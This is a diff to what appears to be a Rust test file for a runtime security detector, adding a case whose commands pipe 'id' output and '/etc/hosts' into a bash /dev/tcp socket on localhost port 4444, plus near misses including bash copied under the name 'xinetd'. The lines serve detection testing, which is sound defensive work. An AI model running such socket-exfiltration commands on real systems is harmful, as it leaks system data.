@@ -1,5 +1,7 @@
 //! Tunnels, relays, chat and paste sites, and unusual ways to fetch a file.
 
+use e2e::with_listener;
+
 use super::*;
 
 cases! {
@@ -73,6 +75,22 @@ name_with_data => Case {
     near_misses: &[
         act("dig", stand_in!("dig", "$t +short www.example.com",
             "$t internal-a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6-1234567890.eu-west-1.elb.example.com")),
+    ],
+};
+
+output_into_a_connection => Case {
+    rule: "Output of a command sent into a connection",
+    fires: &[
+        act("id", with_listener!("127.0.0.1 4444", "line",
+            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; id >&5 </dev/null; :'")).at(CONTAINER).by(BOTH)
+            .showing(&[("proc.stdout.name", "127.0.0.1:*->127.0.0.1:4444")]),
+        act("cat", with_listener!("127.0.0.1 4444", "line", "bash -c 'cat /etc/hosts > /dev/tcp/127.0.0.1/4444; :'")),
+    ],
+    near_misses: &[
+        act("cat", with_listener!("127.0.0.1 4444", "line",
+            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; echo x >&5; cat <&5 > /dev/null; :'")),
+        act("cat", with_listener!("127.0.0.1 4444", "line",
+            "cp /bin/bash %W/xinetd; %W/xinetd -c 'bash -c \"cat /etc/hosts <&5 >&5; :\" 5<>/dev/tcp/127.0.0.1/4444; :'")),
     ],
 };
 }
